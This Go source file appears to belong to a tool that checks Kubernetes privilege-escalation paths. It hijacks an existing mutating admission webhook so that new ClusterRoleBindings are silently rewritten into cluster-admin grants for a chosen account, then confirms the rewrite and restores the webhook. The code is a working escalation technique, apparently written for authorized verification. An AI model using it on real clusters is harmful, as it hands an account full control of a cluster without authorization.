package walk

import (
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	admissionv1 "k8s.io/api/admission/v1"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
)

// webhook is a server of the attacker's that turns every new binding into one
// of cluster-admin to an account.
type webhook struct {
	url string
	ca  []byte
}

func newWebhook(t *testing.T) *webhook {
	t.Helper()
	server := httptest.NewTLSServer(http.HandlerFunc(rewrite))
	t.Cleanup(server.Close)
	return &webhook{url: server.URL, ca: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})}
}

// rewrite answers an AdmissionReview. The path names the account.
func rewrite(out http.ResponseWriter, r *http.Request) {
	var review admissionv1.AdmissionReview
	if err := json.NewDecoder(r.Body).Decode(&review); err != nil || review.Request == nil {
		http.Error(out, "no review", http.StatusBadRequest)
		return
	}
	namespace, name, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	who := account{namespace, name}
	patch, err := json.Marshal([]map[string]any{
		{"op": "replace", "path": "/roleRef", "value": clusterAdmin()},
		{"op": "replace", "path": "/subjects", "value": who.subjects()},
	})
	if err != nil {
		http.Error(out, err.Error(), http.StatusInternalServerError)
		return
	}
	review.Response = &admissionv1.AdmissionResponse{
		UID: review.Request.UID, Allowed: true, Patch: patch, PatchType: ptr.To(admissionv1.PatchTypeJSONPatch),
	}
	review.Request = nil
	_ = json.NewEncoder(out).Encode(review) // without an answer nothing is rewritten
}

// rewriteBindings redirects a webhook that is there, and waits for somebody to
// bind a role to somebody.
func rewriteBindings(ctx context.Context, a attempt) error {
	who, err := accountIn(a.hop.From)
	if err != nil {
		return err
	}
	client, err := a.client()
	if err != nil {
		return err
	}
	there, err := a.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().List(ctx, metav1.ListOptions{})
	if err != nil || len(there.Items) == 0 {
		return fmt.Errorf("find one of %d webhooks: %w", len(there.Items), err)
	}
	changed, before := there.Items[0], there.Items[0].DeepCopy()
	changed.Webhooks = []admissionregistrationv1.MutatingWebhook{a.webhook.hearing(who)}
	now, err := client.AdmissionregistrationV1().MutatingWebhookConfigurations().Update(ctx, &changed, metav1.UpdateOptions{})
	if err != nil {
		return fmt.Errorf("update webhook: %w", err)
	}
	before.ResourceVersion = now.ResourceVersion
	a.undo = append(a.undo, func(ctx context.Context) error { return a.silence(ctx, before) })
	if err := soon(ctx, "somebody's binding is rewritten", a.bindSomebody); err != nil {
		return err
	}
	return a.everythingSoon(ctx)
}

// silence restores the webhook, and waits until nothing is rewritten any more.
func (a attempt) silence(ctx context.Context, before *admissionregistrationv1.MutatingWebhookConfiguration) error {
	if _, err := a.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Update(ctx, before, metav1.UpdateOptions{}); err != nil {
		return fmt.Errorf("restore webhook: %w", err)
	}
	return soon(ctx, "no binding is rewritten", func(ctx context.Context) (bool, error) {
		made, err := a.bind(ctx, []string{metav1.DryRunAll})
		return err == nil && made.RoleRef.Name != clusterAdmin().Name, err
	})
}

// hearing is told of every new binding.
func (w *webhook) hearing(who account) admissionregistrationv1.MutatingWebhook {
	url := w.url + "/" + who.namespace + "/" + who.name
	return admissionregistrationv1.MutatingWebhook{
		Name: "loot.example.com", ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url, CABundle: w.ca},
		Rules: []admissionregistrationv1.RuleWithOperations{{
			Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
			Rule: admissionregistrationv1.Rule{
				APIGroups: []string{rbacv1.GroupName}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"},
			},
		}},
		FailurePolicy: ptr.To(admissionregistrationv1.Ignore), SideEffects: ptr.To(admissionregistrationv1.SideEffectClassNone),
		AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: ptr.To[int32](5),
	}
}

// bindSomebody is what an administrator does every other day. It tells whether
// the binding has become another one.
func (a attempt) bindSomebody(ctx context.Context) (bool, error) {
	made, err := a.bind(ctx, nil)
	if err != nil {
		return false, err
	}
	a.undo = append(a.undo, func(ctx context.Context) error {
		return a.admin.RbacV1().ClusterRoleBindings().Delete(ctx, made.Name, metav1.DeleteOptions{})
	})
	return made.RoleRef.Name == clusterAdmin().Name, nil
}

func (a attempt) bind(ctx context.Context, dryRun []string) (*rbacv1.ClusterRoleBinding, error) {
	made, err := a.admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "viewer-"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
		Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "viewers"}},
	}, metav1.CreateOptions{DryRun: dryRun})
	if err != nil {
		return nil, fmt.Errorf("bind somebody: %w", err)
	}
	return made, nil
}
